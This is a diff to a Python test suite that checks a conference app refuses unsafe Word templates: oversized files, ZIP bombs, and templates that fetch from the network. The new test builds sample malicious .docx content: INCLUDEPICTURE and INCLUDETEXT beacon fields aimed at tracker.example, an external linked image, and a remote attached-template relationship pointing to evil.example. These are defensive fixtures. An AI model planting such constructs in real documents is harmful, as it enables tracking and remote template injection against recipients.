@@ -105,14 +105,12 @@ def test_bad_templates_are_refused_with_a_clear_message(app, conference):
 
 def test_size_and_zip_bomb_limits(app, conference):
     default = builder.default_template_bytes()
-    app.config["DOCUMENTS_TEMPLATE_MAX_BYTES"] = 10_000
+    app.config["DOCUMENTS_TEMPLATE_MAX_BYTES"] = 2_000
     try:
         message = refused(conference, "big.docx", default)
     finally:
         app.config["DOCUMENTS_TEMPLATE_MAX_BYTES"] = 5 * 1024 * 1024
-    assert (
-        message == f"big.docx is {round(len(default) / 1000)} KB; templates are limited to 10 KB."
-    )
+    assert message == f"big.docx is {round(len(default) / 1000)} KB; templates are limited to 2 KB."
     bomb = rezip(default, add={"word/media/zeros.bin": b"\x00" * 20_000_000})
     assert len(bomb) < 5 * 1024 * 1024
     assert "looks like a ZIP bomb" in refused(conference, "bomb.docx", bomb)
@@ -211,4 +209,62 @@ def test_a_template_with_only_the_required_styles_works(app, conference, make_de
     assert table.tblPr.find(qn("w:tblBorders")) is not None
     assert "Ministerial conference on safer children" in "\n".join(
         p.text for p in document.sections[0].header.paragraphs
+    )
+
+
+def _with_letterhead_xml(data: bytes, xml: str) -> bytes:
+    """Put raw WordprocessingML into the template's body, after the letterhead paragraph."""
+    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
+    return rezip(data, replace={"word/document.xml": body.replace("</w:p>", "</w:p>" + xml, 1)})
+
+
+def _with_relationship(data: bytes, part_rels: str, rel: str) -> bytes:
+    rels = zipfile.ZipFile(io.BytesIO(data)).read(part_rels).decode()
+    return rezip(
+        data, replace={part_rels: rels.replace("</Relationships>", rel + "</Relationships>")}
+    )
+
+
+def test_templates_that_fetch_from_the_network_are_refused(app, conference):
+    """Tracking beacons: a field or a linked image fetched whenever the document is opened."""
+    default = custom_template()
+    beacon = "http://tracker.example/pixel.png"
+    run = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">PICTURE "{beacon}" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    message = refused(conference, "beacon.docx", _with_letterhead_xml(default, run))
+    assert "INCLUDEPICTURE" in message and "network" in message
+    simple = f'<w:p><w:fldSimple w:instr=" includetext &quot;{beacon}&quot; "/></w:p>'
+    assert "INCLUDETEXT" in refused(conference, "text.docx", _with_letterhead_xml(default, simple))
+    linked_image = (
+        '<Relationship Id="rId99" TargetMode="External" Target="' + beacon + '" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
+    )
+    message = refused(
+        conference,
+        "linked.docx",
+        _with_relationship(default, "word/_rels/document.xml.rels", linked_image),
+    )
+    assert "tracker.example" in message and "image" in message
+    remote_template = (
+        '<Relationship Id="rId98" TargetMode="External" Target="https://evil.example/t.dotm" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate"/>'
+    )
+    assert "evil.example" in refused(
+        conference,
+        "remote.docx",
+        _with_relationship(default, "word/_rels/document.xml.rels", remote_template),
+    )
+    assert db.session.scalar(sa.select(sa.func.count()).select_from(DocumentTemplate)) == 0
+    # A plain hyperlink (followed only when clicked) is not a beacon.
+    link = (
+        '<Relationship Id="rId97" TargetMode="External" Target="https://alliance.example/" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+    )
+    upload(
+        conference, "site.docx", _with_relationship(default, "word/_rels/document.xml.rels", link)
     )
